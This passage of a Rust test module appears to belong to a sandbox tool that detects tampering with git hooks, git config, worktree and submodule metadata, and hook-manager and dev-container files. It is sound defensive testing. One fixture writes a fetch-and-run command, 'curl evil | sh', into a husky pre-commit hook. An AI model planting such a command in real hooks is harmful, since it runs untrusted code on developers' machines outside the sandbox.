                (".git/info/attributes".into(), "replaced"),
            ]
        );
        assert_eq!(
            changes[3].to_string(),
            ".git/hooks/pre-commit was created: git runs it outside the sandbox at your next commit"
        );
        assert!(
            changes[2]
                .to_string()
                .starts_with(".git/hooks/post-merge was replaced by a symlink to /bin/true: ")
        );
        assert!(changes[5].to_string().contains("replaced by a directory"));
        assert_eq!(changes[2].target.as_deref(), Some(Path::new("/bin/true")));
    }

    #[test]
    fn a_rename_over_a_file_is_a_modification() {
        let dir = project();
        let p = dir.path();
        let before = Snapshot::of_project(p);
        // Same size, same mode, the mtime set back: the inode still differs.
        let meta = fs::metadata(p.join(".git/config")).expect("stat");
        fs::write(p.join("evil"), "[core]\n").expect("write");
        fs::rename(p.join("evil"), p.join(".git/config")).expect("rename");
        assert_eq!(
            fs::metadata(p.join(".git/config")).expect("stat").len(),
            meta.len()
        );
        assert_eq!(
            kinds(&before.changes()),
            [(".git/config".into(), "modified")]
        );
    }

    #[test]
    fn worktrees_and_submodules_are_followed() {
        let main = project();
        let m = main.path();
        let wt_git = m.join(".git/worktrees/feature");
        fs::create_dir_all(&wt_git).expect("mkdir");
        fs::write(wt_git.join("commondir"), "../..\n").expect("commondir");
        let sub_git = m.join(".git/modules/libs/tls");
        fs::create_dir_all(sub_git.join("hooks")).expect("mkdir");
        fs::write(sub_git.join("HEAD"), "ref: refs/heads/main\n").expect("HEAD");
        let worktree = tempfile::tempdir().expect("tempdir");
        let w = worktree.path();
        fs::write(w.join(".git"), format!("gitdir: {}\n", wt_git.display())).expect(".git");

        let before = Snapshot::of_project(w);
        fs::write(m.join(".git/hooks/pre-commit"), "x").expect("main hook");
        fs::write(wt_git.join("config.worktree"), "x").expect("worktree config");
        fs::write(sub_git.join("hooks/pre-commit"), "x").expect("submodule hook");
        let changes = before.changes();
        let names: Vec<PathBuf> = changes.iter().map(|c| c.path.clone()).collect();
        let wt_git = wt_git.canonicalize().expect("canonical");
        assert!(names.contains(&wt_git.join("config.worktree")), "{names:?}");
        let m = m.canonicalize().expect("canonical");
        assert!(
            names.contains(&m.join(".git/hooks/pre-commit")),
            "{names:?}"
        );
        assert!(
            names.contains(&m.join(".git/modules/libs/tls/hooks/pre-commit")),
            "{names:?}"
        );
        assert_eq!(changes.len(), 3, "{names:?}");

        // A rewritten pointer is reported, and not followed.
        fs::write(w.join(".git"), "gitdir: /elsewhere\n").expect("rewrite");
        let changes = before.changes();
        assert!(changes.iter().any(|c| c.name == Path::new(".git")));
        assert_eq!(changes.len(), 4);
    }

    #[test]
    fn hook_managers_and_dev_containers_are_watched() {
        let dir = project();
        let p = dir.path();
        fs::create_dir_all(p.join(".husky/_")).expect("husky");
        fs::create_dir_all(p.join(".lefthook/pre-push")).expect("lefthook scripts");
        fs::create_dir_all(p.join(".devcontainer/rust")).expect("devcontainer");
        fs::create_dir_all(p.join(".config")).expect(".config");
        fs::write(p.join(".husky/pre-commit"), "npm test\n").expect("husky hook");
        let before = Snapshot::of_project(p);
        for rel in [
            ".pre-commit-config.yaml",
            "lefthook.yml",
            ".lefthook-local.jsonc",
            ".config/lefthook.toml",
            ".husky/_/pre-commit",
            ".lefthook/pre-push/audit.sh",
            ".devcontainer.json",
            ".devcontainer/devcontainer.json",
            ".devcontainer/rust/devcontainer.json",
            ".git/info/refs", // git gc's: data, not watched
            "lefthook.txt",   // not a name lefthook reads
        ] {
            fs::write(p.join(rel), "x\n").expect("write");
        }
        fs::write(p.join(".husky/pre-commit"), "curl evil | sh\n").expect("rewrite");
        let changes = before.changes();
        let names: Vec<String> = changes
            .iter()
            .map(|c| c.name.to_string_lossy().into_owned())
            .collect();
        assert_eq!(
            names,
            [
                ".config/lefthook.toml",
                ".devcontainer/devcontainer.json",
                ".devcontainer/rust/devcontainer.json",
                ".devcontainer.json",
                ".husky/_/pre-commit",
                ".husky/pre-commit",
                ".lefthook/pre-push/audit.sh",
                ".lefthook-local.jsonc",
                ".pre-commit-config.yaml",
                "lefthook.yml",
            ]
        );
        assert!(changes[1].to_string().contains("initializeCommand"));
    }

    #[test]
    fn git_busy_in_its_own_directory_is_not_a_change() {
        let dir = project();
        let p = dir.path();
        let before = Snapshot::of_project(p);
        fs::write(p.join(".git/index.lock"), "").expect("lock");
        fs::create_dir_all(p.join(".git/objects/ab")).expect("objects");
        fs::remove_file(p.join(".git/index.lock")).expect("unlock");
        assert!(before.changes().is_empty());
    }
}
